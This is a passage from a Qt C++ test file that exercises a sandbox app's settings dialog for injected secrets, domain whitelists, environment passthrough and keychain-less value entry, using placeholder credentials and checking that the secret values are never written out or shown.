        add->findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok)->click();
        QVERIFY(add->isVisible());
        QCOMPARE(page->table()->rowCount(), 0);
        add->findChild<QLineEdit *>(QStringLiteral("hostsEdit"))
            ->setText(QStringLiteral("API.service.test"));
        add->findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok)->click();
        QTRY_VERIFY(!add->isVisible());
        QCOMPARE(page->table()->rowCount(), 1);
        QCOMPARE(secretCell(page, QStringLiteral("MY_SERVICE_TOKEN"), SecretsPage::ColHosts),
                 QStringLiteral("api.service.test"));

        // Not whitelisted, and also a fixed variable: two problems, Save disabled.
        QVERIFY(!dlg->saveButton()->isEnabled());
        const QString problems = dlg->problems().join(QLatin1Char('\n'));
        QVERIFY2(problems.contains(QStringLiteral("api.service.test")), qPrintable(problems));
        QVERIFY2(problems.contains(QStringLiteral("Environment tab")), qPrintable(problems));
        QVERIFY(!page->problemsLabel()->isHidden());
        QVERIFY(!ui->tabs->tabIcon(ui->tabs->indexOf(page)).isNull());
        // The label's link adds the host to the whitelist.
        Q_EMIT page->problemsLabel()->linkActivated(QStringLiteral("whitelist"));
        QVERIFY(
            dlg->editedConfig().httpDomainWhitelist.contains(QStringLiteral("api.service.test")));
        ui->envTable->setCurrentCell(0, 0);
        ui->removeEnvButton->click();
        QVERIFY2(dlg->saveButton()->isEnabled(),
                 qPrintable(dlg->problems().join(QLatin1Char('\n'))));
        QVERIFY(page->problemsLabel()->isHidden());

        dlg->saveButton()->click();
        auto loaded = ConfigFile::load(path);
        QVERIFY2(loaded.ok(), qPrintable(loaded.errorSummary()));
        QCOMPARE(loaded.config->injectedSecrets.size(), 1);
        QCOMPARE(loaded.config->injectedSecrets.first().header, QStringLiteral("Authorization"));
        QCOMPARE(loaded.config->injectedSecrets.first().format, QStringLiteral("Bearer {}"));
        QCOMPARE(loaded.config->injectedSecrets.first().hosts,
                 QStringList{QStringLiteral("api.service.test")});

        // Remove: out of the config at the next Save.
        QPointer<SettingsDialog> first(dlg);
        QTRY_VERIFY(!first); // closed by Save
        dlg = app.tray->openSettings(app.fleet->sandbox(root));
        page = dlg->secretsPage();
        QCOMPARE(page->table()->rowCount(), 1);
        page->selectName(QStringLiteral("MY_SERVICE_TOKEN"));
        page->removeButton()->click();
        QCOMPARE(page->table()->rowCount(), 0);
        QCOMPARE(dlg->editedConfig().injectedSecrets.size(), 0);
        dlg->saveButton()->click();
        if (QMessageBox *q = dlg->pendingQuestion())
            QFAIL(qPrintable(QStringLiteral("unexpected question: ") + q->text() +
                             q->detailedText()));
        loaded = ConfigFile::load(path);
        QVERIFY(loaded.ok());
        QVERIFY(loaded.config->injectedSecrets.isEmpty());
    }

    // The Environment tab points at passed-through variables that look like credentials; its
    // link moves one to injected-secrets, its value still coming from the same host variable.
    void credentialsPassedThroughGetAHintThatMovesThem()
    {
        GuiTestEnvironment env;
        EnvGuard guard;
        guard.set("OCS_TEST_HOST_ANTHROPIC", QStringLiteral("hint-value-never-shown"));
        const QString root =
            env.makeProject(QStringLiteral("hint"), "sandbox-name: hint\n"
                                                    "http-domain-whitelist:\n"
                                                    "  - api.anthropic.com\n"
                                                    "env-passthrough:\n"
                                                    "  ANTHROPIC_API_KEY: OCS_TEST_HOST_ANTHROPIC\n"
                                                    "  GREETING: OCS_TEST_GREETING\n");
        const QString path = root + QStringLiteral("/opencode-sandbox-config.yaml");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        auto *ui = dlg->form();
        QLabel *hint = dlg->secretHint();
        QVERIFY(hint);
        QVERIFY(!hint->isHidden());
        QVERIFY2(hint->text().contains(QStringLiteral("ANTHROPIC_API_KEY")),
                 qPrintable(hint->text()));
        QVERIFY(hint->text().contains(QStringLiteral("inject:ANTHROPIC_API_KEY")));
        QVERIFY2(!hint->text().contains(QStringLiteral("GREETING")), qPrintable(hint->text()));
        QVERIFY(!hint->text().contains(QStringLiteral("never-shown")));

        Q_EMIT hint->linkActivated(QStringLiteral("inject:ANTHROPIC_API_KEY"));
        SecretsPage *page = dlg->secretsPage();
        QCOMPARE(ui->tabs->currentWidget(), page);
        QCOMPARE(ui->passthroughTable->rowCount(), 1);
        QCOMPARE(ui->passthroughTable->item(0, 0)->text(), QStringLiteral("GREETING"));
        QVERIFY(hint->isHidden());
        QCOMPARE(secretCell(page, QStringLiteral("ANTHROPIC_API_KEY"), SecretsPage::ColHosts),
                 QStringLiteral("api.anthropic.com"));
        // The value keeps coming from the host variable (recorded, not read).
        const auto source =
            page->store()->source(QStringLiteral("ANTHROPIC_API_KEY"), SecretStore::Scope::Project);
        QVERIFY(source);
        QCOMPARE(source->kind, SecretSource::Kind::Environment);
        QCOMPARE(source->variable, QStringLiteral("OCS_TEST_HOST_ANTHROPIC"));
        QTRY_COMPARE(secretCell(page, QStringLiteral("ANTHROPIC_API_KEY"), SecretsPage::ColValue),
                     QStringLiteral("set"));
        QVERIFY(dlg->saveButton()->isEnabled());
        dlg->saveButton()->click();
        const auto loaded = ConfigFile::load(path);
        QVERIFY2(loaded.ok(), qPrintable(loaded.errorSummary()));
        QCOMPARE(loaded.config->envPassthrough.size(), 1);
        QCOMPARE(loaded.config->envPassthrough.first().containerVar, QStringLiteral("GREETING"));
        QCOMPARE(loaded.config->injectedSecrets.size(), 1);
        QCOMPARE(loaded.config->injectedSecrets.first().name, QStringLiteral("ANTHROPIC_API_KEY"));
        QVERIFY(!readAll(path).contains("never-shown"));

        // A row typed now gets the hint too.
        QPointer<SettingsDialog> first(dlg);
        QTRY_VERIFY(!first); // closed by Save
        dlg = app.tray->openSettings(app.fleet->sandbox(root));
        dlg->form()->addPassthroughButton->click();
        dlg->form()->passthroughTable->item(1, 0)->setText(QStringLiteral("OPENAI_API_KEY"));
        QVERIFY(!dlg->secretHint()->isHidden());
        QVERIFY(dlg->secretHint()->text().contains(QStringLiteral("OPENAI_API_KEY")));
        dlg->close();
    }

    // Source…: a host command run at start, with how long its output is reused; recorded in
    // the app's settings (never run by the dialog). An empty command is refused.
    void secretSourceCanBeAHostCommand()
    {
        GuiTestEnvironment env;
        const QString root = env.makeProject(QStringLiteral("command"), "sandbox-name: command\n"
                                                                        "http-domain-whitelist:\n"
                                                                        "  - api.github.com\n"
                                                                        "  - github.com\n"
                                                                        "injected-secrets:\n"
                                                                        "  GH_TOKEN:\n");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        SecretsPage *page = dlg->secretsPage();
        QCOMPARE(page->table()->rowCount(), 1);
        page->selectName(QStringLiteral("GH_TOKEN"));
        page->sourceButton()->click();
        QDialog *source = page->pendingDialog();
        QVERIFY(source && source->objectName() == QLatin1String("sourceDialog"));
        source->findChild<QRadioButton *>(QStringLiteral("commandRadio"))->setChecked(true);
        QPushButton *ok = source->findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok);
        ok->click(); // no command yet
        QVERIFY(source->isVisible());
        QVERIFY(!source->findChild<QLabel *>(QStringLiteral("errorLabel"))->isHidden());
        QVERIFY(!page->store()->source(QStringLiteral("GH_TOKEN"), SecretStore::Scope::Project));
        source->findChild<QLineEdit *>(QStringLiteral("commandEdit"))
            ->setText(QStringLiteral("gh auth token"));
        source->findChild<QSpinBox *>(QStringLiteral("cacheSpin"))->setValue(600);
        ok->click();
        QTRY_VERIFY(!source->isVisible());
        const auto recorded =
            page->store()->source(QStringLiteral("GH_TOKEN"), SecretStore::Scope::Project);
        QVERIFY(recorded);
        QCOMPARE(recorded->kind, SecretSource::Kind::Command);
        QCOMPARE(recorded->command, QStringLiteral("gh auth token"));
        QCOMPARE(recorded->cacheSeconds, 600);
        QTRY_COMPARE(secretCell(page, QStringLiteral("GH_TOKEN"), SecretsPage::ColValue),
                     QStringLiteral("at start"));
        QVERIFY(secretCell(page, QStringLiteral("GH_TOKEN"), SecretsPage::ColSource)
                    .contains(QStringLiteral("command")));
        dlg->close();
    }

    // No keychain (the tests switch it off): "Set value…" says so clearly and writes the
    // value nowhere else.
    void setValueWithoutKeychainFailsClearly()
    {
        GuiTestEnvironment env;
        const QString root =
            env.makeProject(QStringLiteral("nokeychain"), "sandbox-name: nokeychain\n"
                                                          "http-domain-whitelist:\n"
                                                          "  - api.anthropic.com\n"
                                                          "injected-secrets:\n"
                                                          "  ANTHROPIC_API_KEY:\n");
        TestApp app(env);
        app.registry->add(root);
        QVERIFY(app.startAndSettle());
        SettingsDialog *dlg = app.tray->openSettings(app.fleet->sandbox(root));
        SecretsPage *page = dlg->secretsPage();
        QCOMPARE(page->table()->rowCount(), 1);
        QSignalSpy finished(page, &SecretsPage::storeFinished);
        page->selectName(QStringLiteral("ANTHROPIC_API_KEY"));
        page->setValueButton()->click();
        QDialog *valueDialog = page->pendingDialog();
        QVERIFY(valueDialog && valueDialog->objectName() == QLatin1String("setValueDialog"));
        auto *edit = valueDialog->findChild<QLineEdit *>(QStringLiteral("valueEdit"));
        QCOMPARE(edit->echoMode(), QLineEdit::Password);
        QTest::keyClicks(edit, QStringLiteral("sk-no-keychain-value"));
        valueDialog->findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok)->click();
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 10000);
        QVERIFY(!finished.first().at(0).toBool());
        QVERIFY(valueDialog->isVisible()); // still open, with the reason
        auto *error = valueDialog->findChild<QLabel *>(QStringLiteral("errorLabel"));
        QVERIFY(error && !error->isHidden() && !error->text().isEmpty());
        QVERIFY(!error->text().contains(QStringLiteral("sk-no-keychain")));
        QVERIFY(!page->statusLabel()->text().contains(QStringLiteral("sk-no-keychain")));
        QVERIFY(edit->text().isEmpty()); // the field no longer holds it
        // No fallback file anywhere.
        QDirIterator files(env.path(QString()), QDir::Files | QDir::Hidden,
                           QDirIterator::Subdirectories);
        while (files.hasNext()) {
            QFile f(files.next());
            QVERIFY(f.open(QIODevice::ReadOnly));
            QVERIFY2(!f.readAll().contains("sk-no-keychain-value"), qPrintable(f.fileName()));
        }
        valueDialog->reject();
        dlg->close();
    }
};

QTEST_MAIN(TestSettingsDialog)
#include "tst_settingsdialog.moc"
